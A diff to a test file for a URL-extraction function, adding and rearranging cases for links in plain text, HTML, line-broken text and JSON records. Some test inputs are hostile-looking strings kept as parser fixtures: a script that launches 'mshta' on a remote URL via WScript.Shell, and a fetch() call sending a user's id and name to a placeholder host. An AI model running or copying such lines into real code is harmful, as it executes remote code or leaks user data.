@@ -323,6 +323,27 @@ describe("links in a plain text", () => {
       "GET /send?text=Pay%20https%3A%2F%2Fa.example%2Fx%20now&cb=https%3A%2F%2Fb.example%2Fy 200",
       ...["https%3A%2F%2Fa.example%2Fx%20now", "https%3A%2F%2Fa.example%2Fx", "https%3A%2F%2Fb.example%2Fy"]
     ],
+    // Names of a program are no hosts.
+    [
+      "fetch('https://a.example/u?id='+user.id+'&n='+data.name); $a='https://b.example/x';b.id=3",
+      "https://a.example/u?id='+user.id+'&n='+data.name",
+      "https://a.example/u?id=",
+      "https://b.example/x';b.id=3",
+      "https://b.example/x"
+    ],
+    [
+      "hosts 'https://a.example/x',b.example",
+      "https://a.example/x',b.example",
+      "https://a.example/x",
+      "b.example"
+    ],
+    ["log www.a.example\\u0026b=c", "www.a.example\\u0026b=c"],
+    [
+      "text=https%3A%2F%2Fa.example%2Fx%0Ahttps%3A%2F%2Fb.example%2Fy",
+      "https%3A%2F%2Fa.example%2Fx%0Ahttps%3A%2F%2Fb.example%2Fy",
+      "https%3A%2F%2Fa.example%2Fx",
+      "https%3A%2F%2Fb.example%2Fy"
+    ],
     ["#HttpOnly_.a.example\tTRUE\n#HttpOnly_www.b.example\tTRUE", "a.example", "www.b.example"],
     ["", ...[]]
   ])("%o", (text, ...expected) => assert.deepStrictEqual(urls(text), expected))
@@ -371,6 +392,11 @@ describe("a link that goes on after a line break", () => {
       "view-source:a.example/x",
       "view-source:a.example/xabout:b?c=1"
     ]))
+
+  it.each<[text: string, ...urls: ReadonlyArray<string>]>([
+    ["microsoft-edge:https://a.exa\nmple/x1", "microsoft-edge:https://a.example/x1"],
+    ["https://a.example/aGk\n==", "https://a.example/aGk", "https://a.example/aGk=="]
+  ])("is joined in %o", (text, ...expected) => assert.deepStrictEqual(urls(text), expected))
 
   it("is not joined with the next field of a contact", () =>
     assert.deepStrictEqual(
@@ -575,6 +601,7 @@ describe("links in HTML", () => {
       `VALUES ('<a href=${quote}https://a.example/x${quote}>x</a>')`,
       ["https://a.example/x", "x"]
     ]),
+    ['<a href="//////////a.example/x">y</a> <a href="//">z</a>', ["https://////////a.example/x", "y"]],
     [
       '<script>new ActiveXObject("WScript.Shell").Run("mshta https://a.example/x")</script>',
       ["https://a.example/x", ""]
@@ -601,7 +628,6 @@ describe("links in XML", () => {
     [
       "RSS",
       '<?xml version="1.0"?><rss><title>see https://t.example/</title><link>https://a.example/?x=1&amp;y=2</link><description><![CDATA[<p>Hi <a href="https://b.example/x">x</a> https://c.example/y</p>]]></description><link><![CDATA[https://d.example/?a=1&b=2]]></link></rss>',
-    ['<a href="//////////a.example/x">y</a> <a href="//">z</a>', ["https://////////a.example/x", "y"]],
       "https://t.example/",
       "https://a.example/?x=1&y=2",
       "https://b.example/x",
@@ -684,6 +710,9 @@ describe("links in tables and records", () => {
       "http://a.example/x?y=1"
     ]),
     ['{"a":{"host":"a.example"},"b":{"path":"/x"}}', "json", "a.example"],
+    // Not the address of a client or server, nor the log that Logstash has read.
+    ['{"host":"192.0.2.7","uri":"/x"}', "json", "192.0.2.7"],
+    ['{"host":"a.example","path":"/var/log/auth.log"}', "json", "a.example"],
     [
       '192.0.2.1 - - [01/Jan/2026:00:00:00 +0000] "GET /x?u=1 HTTP/1.1" 200 12 "https://ref.example/a" "Mozilla/5.0 (compatible; bot/1.0)"',
       "log",
@@ -711,9 +740,6 @@ describe("links in tables and records", () => {
     [
       'id,body\n1,"<p>Hi, <img alt="""">\n<a href=""https://a.example/x"">Pay</a></p>"\n',
       "html",
-    // Not the address of a client or server, nor the log that Logstash has read.
-    ['{"host":"192.0.2.7","uri":"/x"}', "json", "192.0.2.7"],
-    ['{"host":"a.example","path":"/var/log/auth.log"}', "json", "a.example"],
       "https://a.example/x"
     ],
     [
